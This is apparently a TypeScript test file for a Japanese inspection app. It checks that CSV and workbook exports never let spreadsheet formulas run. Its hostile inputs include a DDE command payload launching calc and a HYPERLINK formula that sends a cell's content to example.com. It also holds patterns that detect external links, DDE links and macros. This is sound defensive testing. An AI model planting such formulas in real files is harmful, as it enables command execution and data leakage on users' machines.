import * as fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { readXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvBytes } from '#documents/csv.ts';
import { findingsCsv } from '#documents/findings/long-csv.ts';
import { findingsWorkbook } from '#documents/findings/workbook.ts';
import { reviewCsv } from '#documents/policy-review/long-csv.ts';
import { reviewWorkbook } from '#documents/policy-review/workbook.ts';
import { rosterCsv } from '#documents/roster/roster-csv.ts';
import { codeTableCsv } from '#documents/summary/code-table.ts';
import { longCsv } from '#documents/summary/long-csv.ts';
import { summaryWorkbook } from '#documents/summary/workbook.ts';
import { tableTemplate } from '#documents/table-template.ts';
import { workbookBytes } from '#documents/xlsx.ts';
import type { FindingRecord } from '#domain/findings/record.ts';
import { DEFAULT_RISK_SCALE as scale } from '#domain/findings/risk.ts';
import { emptyTreatment, revised } from '#domain/findings/treatment.ts';
import type { Candidate } from '#domain/policy-review/candidates.ts';
import { DEFAULT_REVIEW_RULES } from '#domain/policy-review/rules.ts';
import type { HandedAnswer, Payload } from '#domain/result-file/result-payload.ts';
import { sourcesBelow } from '../architecture/imports.ts';
import { payloads } from '../support/arbitrary-payload.ts';
import { findingRecord } from '../support/finding-record.ts';
import { departmentWith, inspection, itemWith, questionnaire } from '../support/small-questionnaire.ts';
import { summaryOver } from '../support/summaries.ts';
import { callsOf, pageSources, ROOT } from './sources.ts';
import { anyText } from '../support/any-text.ts';
import { rowsOfText } from '../support/table-rows.ts';

const at = '2026-11-22T05:00:00.000Z';
const CALLED = "cmd|' /C calc'!A0";

/** Texts by somebody who wants the officer's spreadsheet to evaluate them. */
const HOSTILE = [
  `=${CALLED}`,
  `+${CALLED}`,
  `-${CALLED}`,
  `@SUM(1+1)*${CALLED}`,
  `\t=${CALLED}`,
  `\r=${CALLED}`,
  `\n=${CALLED}`,
  ` =${CALLED}`,
  `　=${CALLED}`,
  `=${CALLED}\r続き`,
  `=${CALLED}\u2028続き`,
  `\uFEFF=${CALLED}`,
  `\u200B=${CALLED}`,
  `\u202E=${CALLED}`,
  `\u0000=${CALLED}`,
  `＝${CALLED}`,
  `＋${CALLED}`,
  `－${CALLED}`,
  `＠${CALLED}`,
  `=HYPERLINK("https://example.com/?"&A1,"開く")`,
  `",=${CALLED}`,
  `"\r\n=${CALLED}`,
];

/** Whether a spreadsheet would evaluate the cell. Deliberately independent of the rule in the product. */
function isCalculated(cell: string): boolean {
  const seen = cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, '');
  const first = seen.normalize('NFKC').charAt(0);
  return '=+-@'.includes(first) && first !== '' && !/^－(?:$|[\s（])/u.test(seen);
}

function csvCells(bytes: Uint8Array): string[] {
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).replace(/^\uFEFF/u, '');
  return Papa.parse<string[]>(text, { delimiter: ',' }).data.flat();
}

function hostilePayload(payload: Payload, text: string, code: string): Payload {
  const answers = payload.answers.map((answer) => ({
    ...answer,
    comment: text,
    reason: text,
    evidence: [{ document: text, number: text, place: text }],
    rows: [[text, text]],
    action: { kind: 'own', what: text, post: text, due: '2026-11-21' },
  }));
  return { ...payload, department: { code, name: text }, respondent: { post: text, name: text }, answers };
}

const department = departmentWith({ code: '001', name: '総務課' });
const [payload] = fc.sample(payloads(), { numRuns: 1, seed: 4 });

function hostileMaterial(text: string) {
  if (payload === undefined) throw new Error('no payload was made');
  const summary = summaryOver(questionnaire, inspection, [hostilePayload(payload, text, '001')]);
  const key = { department: '001', item: 'A-1' };
  const treatment = revised(emptyTreatment('i', key), { note: text, owner: text }, text, at);
  const record = findingRecord('001', 'A-1', { note: text, owner: text, treatment });
  const answered: FindingRecord = {
    ...record,
    answer: { ...record.answer, comment: text, reason: text } as HandedAnswer,
  };
  const candidate: Candidate = {
    subject: { kind: 'item', id: 'A-1' },
    items: [itemWith({ id: 'A-1', text })],
    clauses: ['1'],
    evidence: [{ rule: 'clue', quotes: [{ department: { ...department, name: text }, text, phrase: text }] }],
    riskLevels: [0, 1, 2],
    review: null,
    standing: { decision: 'revise', reason: text, riskNote: text, decidedOn: '2026-11-22', by: text, at },
  };
  return { summary, records: [answered], candidates: [candidate], roster: [{ ...department, name: text }] };
}

describe.each(HOSTILE)('a text that begins like a formula: %j', (text) => {
  const { summary, records, candidates, roster } = hostileMaterial(text);
  const codes = {
    ...summary,
    questionnaire: { ...questionnaire, tiers: { mynumber: text, lgwan: text, internet: text } },
  };

  it.each([
    ['every answer', () => longCsv(summary)],
    ['what the codes mean', () => codeTableCsv(codes)],
    ['the findings', () => findingsCsv({ questionnaire, scale, today: '2026-11-22' }, records)],
    ['the evidence of the review', () => reviewCsv(questionnaire, candidates)],
    ['the roster', () => rosterCsv(roster)],
    ['a template', () => csvBytes([text], [[text, 1, text]])],
  ])('is never evaluated in the CSV with %s', (_what, write) => {
    const cells = csvCells(write());
    expect(cells.some((cell) => cell.includes('cmd|') || cell.includes('HYPERLINK'))).toBe(true);
    expect(cells.filter(isCalculated)).toEqual([]);
  });

  it.each([
    ['the figures', () => summaryWorkbook(summary, at)],
    ['the findings', () => findingsWorkbook(summary, records, scale, at)],
    ['a template', () => tableTemplate('表', [[text], [text]])],
    ['the review', () => reviewWorkbook({ summary, scale, rules: DEFAULT_REVIEW_RULES, candidates }, at)],
  ])('is plain text in the workbook with %s', async (_what, write) => {
    const bytes = await write();
    const parts = Object.entries(unzipSync(bytes)).map(([name, content]) => [name, strFromU8(content)] as const);
    expect(parts.some(([, xml]) => xml.includes('cmd|') || xml.includes('HYPERLINK'))).toBe(true);
    for (const [name, xml] of parts) {
      expect(name).not.toMatch(/externalLink|connections|vba|activeX/iu);
      expect(xml).not.toMatch(/<f[\s>]|<hyperlink|<ddeLink|TargetMode="External"/u);
    }
    const { sheets } = await readXlsx(bytes);
    const cells = sheets.flatMap(({ cells: known }) => [...(known?.values() ?? [])]);
    expect(cells.filter((cell) => 'formula' in cell && cell.formula !== undefined)).toEqual([]);
  });
});

describe('any text', () => {
  const sign = fc.constantFrom(...'=+-@＝＋－＠', '\t', '\r', '\n', ' ', '　', '"', "'", ',', ';', '\u2028', '\u200B');
  const text = fc.tuple(fc.array(sign, { maxLength: 5 }), anyText()).map(([signs, rest]) => signs.join('') + rest);

  it('is never evaluated in a CSV, as heading or cell', () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
        expect(csvCells(csvBytes(cells, [cells])).filter(isCalculated)).toEqual([]);
      }),
    );
  });

  it('is never evaluated in a workbook', async () => {
    await fc.assert(
      fc.asyncProperty(text, async (cell) => {
        const sheet = { name: 'a', columns: [{ heading: cell, width: 9 }], rows: [[cell]], frozenColumns: 0 };
        const parts = Object.values(unzipSync(await workbookBytes([sheet], '取扱注意'))).map((part) => strFromU8(part));
        expect(parts.join('\n')).not.toMatch(/<f[\s>]/u);
      }),
      { numRuns: 30 },
    );
  });

  it('is read back from a CSV unchanged except for line breaks and blanks', () => {
    const shown = (cell: string) => cell.replaceAll(/\s+/gu, ' ').trim();
    const oneLine = text.filter((cell) => !cell.startsWith("'") && !/[\p{Cc}"]/u.test(cell) && shown(cell) !== '');
    fc.assert(
      fc.property(oneLine, (cell) => {
        const written = new TextDecoder().decode(csvBytes(['見出し'], [[cell]]));
        expect(shown(rowsOfText(written)[1]?.cells[0] ?? '')).toBe(shown(cell));
      }),
    );
  });
});

it('the product’s own mark for "not applicable" stays a plain cell', () => {
  expect(csvCells(csvBytes(['－'], [['－', '－（該当なし）', '－ 該当なし', -5]]))).toEqual(
    expect.arrayContaining(['－', '－（該当なし）', '－ 該当なし', '-5']),
  );
});

it('all CSVs and workbooks of the product come from the writers tested here', () => {
  const sources = [...pageSources(), ...sourcesBelow(ROOT, 'electron/cli'), ...sourcesBelow(ROOT, 'electron/main')];
  const writers = (name: string) => [...new Set(callsOf(sources, name).map(({ path }) => path))].sort();
  expect(writers('unparse')).toEqual(['renderer/src/documents/csv.ts']);
  expect(writers('writeXlsx')).toEqual(['renderer/src/documents/xlsx.ts']);
  expect(writers('csvBytes')).toEqual([
    'renderer/src/documents/findings/long-csv.ts',
    'renderer/src/documents/policy-review/long-csv.ts',
    'renderer/src/documents/roster/roster-csv.ts',
    'renderer/src/documents/summary/code-table.ts',
    'renderer/src/documents/summary/long-csv.ts',
  ]);
  expect(writers('workbookBytes')).toEqual([
    'renderer/src/documents/findings/workbook.ts',
    'renderer/src/documents/policy-review/workbook.ts',
    'renderer/src/documents/summary/workbook.ts',
    'renderer/src/documents/table-template.ts',
  ]);
});
